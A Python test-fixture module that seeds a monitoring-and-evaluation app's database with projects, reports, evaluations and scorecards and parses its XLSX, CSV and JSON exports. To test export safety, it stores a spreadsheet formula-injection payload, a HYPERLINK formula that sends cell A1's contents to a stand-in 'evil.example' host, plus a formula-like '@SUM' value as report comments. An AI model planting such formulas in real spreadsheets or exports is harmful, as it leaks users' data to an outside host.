"""A fixed dataset for the export tests, and helpers to download and read each format.

Two projects; in the first, reports in every status, design input, a closed evaluation with
submitted and draft scorecards, an open one, and recommendations. Texts that exports tend to break:
a non-ASCII organisation name, a comment with commas, quotes and a newline, formula-like cells.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile
from dataclasses import dataclass, field
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any

import openpyxl

from mel_app import audit
from mel_app.evaluations.defaults import ensure_defaults
from mel_app.extensions import db
from mel_app.models import (
    ActionStatus,
    DesignInputItem,
    DesignItemKind,
    Disposition,
    Evaluation,
    EvaluationKind,
    EvaluationStatus,
    IndicatorValue,
    Measure,
    OrgGroup,
    Recommendation,
    ResponseKind,
    ResultType,
    Role,
    Score,
    Scorecard,
    ScorecardStatus,
    ScorerGroup,
    Status,
    Submission,
    SubmissionKind,
)
from tests import snapshots
from tests.conftest import csrf_token

NON_ASCII_ORG = "Fédération des Travailleurs de Côte d'Ivoire — Ünion «Solidarité»"
TRICKY_COMMENT = 'Counted by "branch", region, and\nnational office; 10% "estimated"'
FORMULA_COMMENT = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
STAMP = datetime(2026, 1, 20, 9, 30, tzinfo=UTC)


@dataclass
class World:
    ids: dict[str, int] = field(default_factory=dict)
    users: dict[str, str] = field(default_factory=dict)  # role → email

    def __getitem__(self, key: str) -> int:
        return self.ids[key]


def build_world(make) -> World:
    """In an empty database, a copy of the rows of the first one this worker built
    (tests/snapshots.py)."""
    return snapshots.built_once(make.app, f"exports world of {date.today()}", lambda: _build_world(make))


def _build_world(make) -> World:
    w = World()
    ids = w.ids
    ids["org_ci"] = make.organisation(NON_ASCII_ORG, OrgGroup.workers, country="CI")
    ids["org_emp"] = make.organisation("Employers of Côte d'Ivoire", OrgGroup.employers, country="CI")
    ids["org_ke"] = make.organisation("Kenya Union Centre", OrgGroup.workers, country="KE")
    ids["org_gh"] = make.organisation("Ghana Union", OrgGroup.workers, country="GH")
    ids["org_ilo"] = make.organisation("ILO ACTRAV", OrgGroup.ilo, country="CH")
    ids["org_eval"] = make.organisation("Independent Evaluators", OrgGroup.other, country="BE")

    def user(key: str, org: str, name: str) -> int:
        email = f"{key}@example.org"
        w.users[key] = email
        ids[f"user_{key}"] = make.user(email, organisation_id=ids[org], full_name=name)
        return ids[f"user_{key}"]

    user("specialist", "org_ilo", "Carla Specialist")
    user("evaluator", "org_eval", "Eva Evaluator")
    user("observer", "org_ilo", "Otto Observer")
    user("reporter", "org_ci", "Rose Reporter")
    user("employer", "org_emp", "Emil Employer")
    user("other_evaluator", "org_eval", "Oscar Elsewhere")
    user("nobody", "org_ke", "Nadia Nomember")
    ids["user_admin"] = make.user("admin@example.org", is_admin=True, full_name="Ada Admin")
    w.users["admin"] = "admin@example.org"

    ids["project"] = make.project(
        "RAF/22/11/NOR", title="Workers' rights in West Africa", countries=("CI", "KE"), donor="Norway"
    )
    ids["other_project"] = make.project("RAF/23/05/FIN", title="Trade agreements", countries=("GH",))
    p, q = ids["project"], ids["other_project"]
    for key, role, org in [
        ("specialist", Role.specialist, None),
        ("evaluator", Role.evaluator, None),
        ("observer", Role.observer, None),
        ("reporter", Role.reporter, "org_ci"),
        ("employer", Role.reporter, "org_emp"),
    ]:
        make.member(ids[f"user_{key}"], p, role, organisation_id=ids[org] if org else None)
    make.member(ids["user_other_evaluator"], q, Role.evaluator)
    make.member(ids["user_specialist"], q, Role.specialist)
    for org in ("org_ci", "org_emp", "org_ke"):
        make.partner(p, ids[org])
    make.partner(q, ids["org_gh"])

    ids["impact"] = make.result(p, "0", ResultType.impact, title="Rights at work are respected")
    ids["outcome"] = make.result(p, "1", ResultType.outcome, title="Unions represent more women")
    ids["output"] = make.result(p, "1.1", ResultType.output, title="Organising campaigns")
    ids["empty_result"] = make.result(p, "2", ResultType.outcome, title="A result without indicators")
    ids["ind_members"] = make.indicator(
        ids["outcome"],
        "1.a",
        Measure.number,
        title="Women members",
        unit="members",
        baseline_value=100,
        baseline_date=date(2024, 1, 1),
        target_value=300,
        target_date=date(2027, 12, 31),
        disaggregate_by_sex=True,
        position=0,
    )
    ids["ind_share"] = make.indicator(
        ids["outcome"],
        "1.b",
        Measure.percentage,
        title="Share of women leaders",
        unit="%",
        baseline_value=20,
        baseline_date=date(2024, 1, 1),
        target_value=40,
        target_date=date(2027, 12, 31),
        position=1,
    )
    ids["ind_policy"] = make.indicator(
        ids["output"], "1.1.a", Measure.yes_no, title="Policy adopted", baseline_value=0, target_value=1
    )
    ids["ind_story"] = make.indicator(ids["impact"], "0.a", Measure.qualitative, title="How unions are heard")
    other_result = make.result(q, "1", ResultType.outcome, title="Other outcome")
    ids["ind_other"] = make.indicator(other_result, "1.a", Measure.number, title="Other indicator")

    ids["period_1"] = make.period(p, "2025 H2", date(2025, 7, 1), date(2025, 12, 31), date(2026, 1, 31))
    ids["period_2"] = make.period(p, "2026 H1", date(2026, 1, 1), date(2026, 6, 30), date(2026, 7, 31))
    ids["other_period"] = make.period(q, "2025 H2", date(2025, 7, 1), date(2025, 12, 31), date(2026, 1, 31))

    with make.app.app_context():
        audit.set_actor(db.session(), audit.SYSTEM_ACTOR)
        _reports(ids)
        _evaluations(ids)
        db.session.commit()
    return w


def _submission(ids, project, org, author, *, period=None, status=Status.approved, kind=None, narrative=None):
    sub = Submission(
        project_id=ids[project],
        organisation_id=ids[org],
        author_id=ids[author],
        period_id=ids[period] if period else None,
        kind=kind or SubmissionKind.progress_report,
        status=status,
        narrative=narrative or {},
    )
    if status in (Status.submitted, Status.returned, Status.approved):
        sub.submitted_at, sub.submitted_by_id = STAMP, ids[author]
    if status is Status.returned:
        sub.returned_at, sub.returned_by_id = STAMP, ids["user_specialist"]
    if status is Status.approved:
        sub.approved_at, sub.approved_by_id = STAMP, ids["user_specialist"]
    db.session.add(sub)
    db.session.flush()
    return sub


def _value(sub, indicator_id, value=None, women=None, men=None, *, text="", comment="", not_reported=False):
    def dec(x):
        return None if x is None else Decimal(str(x))

    db.session.add(
        IndicatorValue(
            submission_id=sub.id,
            indicator_id=indicator_id,
            value=dec(value),
            women=dec(women),
            men=dec(men),
            text_value=text,
            comment=comment,
            not_reported=not_reported,
        )
    )


def _reports(ids) -> None:
    approved = _submission(
        ids,
        "project",
        "org_ci",
        "user_reporter",
        period="period_1",
        narrative={
            "achievements": "Réunions tenues à Abidjan, avec «succès».",
            "challenges": "-5 members left, +3 joined",
        },
    )
    ids["sub_approved"] = approved.id
    _value(approved, ids["ind_members"], 150, 90, 60, comment=TRICKY_COMMENT)
    _value(approved, ids["ind_share"], "40.5", comment=FORMULA_COMMENT)
    _value(approved, ids["ind_policy"], 1, comment="@SUM(A1:A9)")
    _value(approved, ids["ind_story"], text="Unions were heard at the national council.")

    employers = _submission(ids, "project", "org_emp", "user_employer", period="period_1")
    ids["sub_employers"] = employers.id
    _value(employers, ids["ind_members"], 50, 20, 30)
    _value(employers, ids["ind_share"], "30")
    _value(employers, ids["ind_policy"], not_reported=True)

    submitted = _submission(
        ids, "project", "org_ke", "user_reporter", period="period_2", status=Status.submitted
    )
    ids["sub_submitted"] = submitted.id
    _value(submitted, ids["ind_members"], 200, 120, 80)

    returned = _submission(
        ids, "project", "org_emp", "user_employer", period="period_2", status=Status.returned
    )
    ids["sub_returned"] = returned.id
    _value(returned, ids["ind_members"], 70)

    draft = _submission(ids, "project", "org_ci", "user_reporter", period="period_2", status=Status.draft)
    ids["sub_draft"] = draft.id
    _value(draft, ids["ind_members"], 999, comment="draft, never exported")

    withdrawn = _submission(
        ids, "project", "org_ke", "user_reporter", period="period_1", status=Status.withdrawn
    )
    ids["sub_withdrawn"] = withdrawn.id
    _value(withdrawn, ids["ind_members"], 888)

    other = _submission(ids, "other_project", "org_gh", "user_other_evaluator", period="other_period")
    ids["sub_other"] = other.id
    _value(other, ids["ind_other"], 777, comment="secret of another project")

    design = _submission(
        ids, "project", "org_ci", "user_reporter", kind=SubmissionKind.design_input, status=Status.approved
    )
    ids["sub_design"] = design.id
    db.session.add(
        DesignInputItem(
            submission_id=design.id,
            position=0,
            kind=DesignItemKind.proposed_indicator,
            text="Count women shop stewards, too",
            indicator_id=ids["ind_members"],
            disposition=Disposition.partly,
            response_reason="Counted within indicator 1.a",
            responded_by_id=ids["user_specialist"],
            responded_at=STAMP,
        )
    )


SCORES = {
    # scorer key: (group, status, points per criterion position 0..3; None = cannot assess)
    "evaluator": (ScorerGroup.independent, ScorecardStatus.submitted, [5, 4, 3, 6]),
    "reporter": (ScorerGroup.workers, ScorecardStatus.submitted, [2, None, 3, 6]),
    "specialist": (ScorerGroup.ilo, ScorecardStatus.submitted, [4, 4, 5, 5]),
    "employer": (ScorerGroup.employers, ScorecardStatus.draft, [6, 6, 6, 6]),
}


def _evaluations(ids) -> None:
    criteria_set, scale = ensure_defaults()
    criteria = list(criteria_set.criteria)[:4]
    ids["criteria"] = [c.id for c in criteria]
    closed = Evaluation(
        project_id=ids["project"],
        kind=EvaluationKind.mid_term,
        title="Mid-term evaluation",
        criteria_set_id=criteria_set.id,
        scale_id=scale.id,
        status=EvaluationStatus.closed,
        opened_by_id=ids["user_specialist"],
        opened_at=STAMP,
        closed_by_id=ids["user_specialist"],
        closed_at=STAMP,
    )
    db.session.add(closed)
    db.session.flush()
    ids["evaluation_closed"] = closed.id
    for key, (group, status, points) in SCORES.items():
        card = Scorecard(
            evaluation_id=closed.id,
            scorer_id=ids[f"user_{key}"],
            group=group,
            status=status,
            submitted_at=STAMP if status is ScorecardStatus.submitted else None,
        )
        db.session.add(card)
        db.session.flush()
        for criterion, point in zip(criteria, points, strict=True):
            db.session.add(
                Score(
                    scorecard_id=card.id,
                    criterion_id=criterion.id,
                    point=point,
                    cannot_assess=point is None,
                    justification=f"Justified by {key}, with care",
                )
            )
    db.session.add(
        Recommendation(
            evaluation_id=closed.id,
            position=0,
            text="Train more women organisers",
            addressed_to="Partner unions",
            created_by_id=ids["user_evaluator"],
            response=ResponseKind.accepted,
            planned_action="Two more campaigns",
            due_date=date(2026, 12, 31),
            action_status=ActionStatus.in_progress,
            responded_by_id=ids["user_specialist"],
            responded_at=STAMP,
        )
    )
    # Open evaluation: the evaluator has submitted, the specialist is still drafting.
    opened = Evaluation(
        project_id=ids["project"],
        kind=EvaluationKind.final,
        title="Final evaluation (open)",
        criteria_set_id=criteria_set.id,
        scale_id=scale.id,
        status=EvaluationStatus.open,
        opened_by_id=ids["user_specialist"],
        opened_at=STAMP,
    )
    db.session.add(opened)
    db.session.flush()
    ids["evaluation_open"] = opened.id
    for key, status in (("evaluator", ScorecardStatus.submitted), ("specialist", ScorecardStatus.draft)):
        card = Scorecard(
            evaluation_id=opened.id,
            scorer_id=ids[f"user_{key}"],
            group=ScorerGroup.independent if key == "evaluator" else ScorerGroup.ilo,
            status=status,
            submitted_at=STAMP if status is ScorecardStatus.submitted else None,
        )
        db.session.add(card)
        db.session.flush()
        db.session.add(
            Score(scorecard_id=card.id, criterion_id=criteria[0].id, point=3, justification="Open one")
        )


# --- downloading and reading ------------------------------------------------------------------


def download(client, fmt: str, **scope: Any) -> tuple[Any, bytes]:
    data: dict[str, Any] = {"format": fmt, "csrf_token": csrf_token(client)}
    data.update(scope)
    with client.post("/downloads", data=data) as resp:
        body = resp.get_data()
    return resp, body


def read_xlsx(body: bytes) -> dict[str, list[dict[str, Any]]]:
    book = openpyxl.load_workbook(io.BytesIO(body), read_only=True)
    tables = {}
    try:
        for ws in book.worksheets:
            rows = list(ws.iter_rows(values_only=True))
            if ws.title == "About":
                tables["About"] = rows
                continue
            header = rows[0]
            tables[ws.title] = [dict(zip(header, row, strict=True)) for row in rows[1:]]
    finally:
        book.close()
    return tables


def read_csv_zip(body: bytes, *, bom: bool = False) -> dict[str, Any]:
    tables: dict[str, Any] = {}
    with zipfile.ZipFile(io.BytesIO(body)) as zf:
        for name in zf.namelist():
            raw = zf.read(name)
            if name == "about.json":
                tables["about"] = json.loads(raw)
                continue
            assert raw.startswith(b"\xef\xbb\xbf") == bom, name
            text = raw.decode("utf-8-sig")
            tables[name.removesuffix(".csv")] = list(csv.DictReader(io.StringIO(text, newline="")))
    return tables


def read_json(body: bytes) -> dict[str, Any]:
    return json.loads(body)
